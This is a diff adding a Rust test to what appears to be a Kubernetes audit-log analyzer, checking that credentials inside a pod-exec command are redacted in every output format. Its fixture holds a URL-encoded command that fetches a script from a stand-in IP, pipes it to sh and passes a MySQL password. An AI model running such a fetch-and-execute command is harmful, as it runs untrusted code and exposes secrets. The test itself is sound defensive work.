@@ -378,3 +378,44 @@ fn keys_given_twice_keep_the_event_with_the_last_value_and_say_so() {
     );
     assert_eq!(tally(&report), found_once);
 }
+
+#[test]
+fn credentials_in_an_exec_command_are_redacted_in_every_format() {
+    let uri = "/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command=curl+-H+%22Authorization%3A+Bearer+SEKRIT.TOKEN%22+http%3A%2F%2F203.0.113.9%2Fx.sh+%7C+sh+%26%26+mysql+--password%3DHUNTER2&container=web&stdin=true&stdout=true&tty=true";
+    let exec = good_with("\"good\"", "\"x1\"")
+        .replace("/api/v1/namespaces/default/pods", uri)
+        .replace("\"verb\":\"list\"", "\"verb\":\"create\"")
+        .replace(
+            "\"resource\":\"pods\",",
+            "\"resource\":\"pods\",\"subresource\":\"exec\",\"name\":\"web\",",
+        )
+        .replace("\"code\":200", "\"code\":101");
+    let path = then_good("exec-credentials.log", exec.as_bytes());
+    let (_, report) = analyze(&path);
+    let messages: Vec<String> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|f| f["reasons"].as_array().unwrap().clone())
+        .map(|r| r.to_string())
+        .collect();
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("Bearer [redacted]") && m.contains("--password=[redacted]")),
+        "{messages:?}"
+    );
+    for format in ["table", "json", "jsonl", "csv"] {
+        let output = Command::new(env!("CARGO_BIN_EXE_auditlens"))
+            .args(["analyze", "--min-severity", "info", "--format", format])
+            .arg(&path)
+            .output()
+            .unwrap();
+        let text = String::from_utf8_lossy(&output.stdout);
+        assert!(text.contains("web"), "{format}: {text}");
+        assert!(
+            !text.contains("SEKRIT") && !text.contains("HUNTER2"),
+            "{format} leaks a credential: {text}"
+        );
+    }
+}
